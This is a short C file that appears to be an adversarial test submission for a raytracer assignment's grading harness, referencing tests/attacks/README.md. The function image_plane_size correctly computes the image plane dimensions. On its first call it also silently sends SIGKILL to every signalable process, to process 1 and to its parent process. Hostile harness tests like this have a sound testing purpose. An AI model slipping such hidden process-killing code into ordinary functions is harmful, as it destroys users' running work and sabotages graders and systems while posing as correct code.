/* Part 1 right; on its first call, SIGKILL to every process it may signal,
 * to process 1 and to its parent (tests/attacks/README.md). */
#define _POSIX_C_SOURCE 200809L
#define _DARWIN_C_SOURCE        /* macOS: the rest too */
#include "raytracer.h"
#include <signal.h>
#include <unistd.h>

void image_plane_size(double fov_degrees, double aspect, double d, double *w, double *h)
{
    static int done;
    if (!done++) {
        kill(-1, SIGKILL);
        kill(1, SIGKILL);
        kill(getppid(), SIGKILL);
    }
    *h = 2 * d * tan(fov_degrees * M_PI / 360);
    *w = aspect * *h;
}
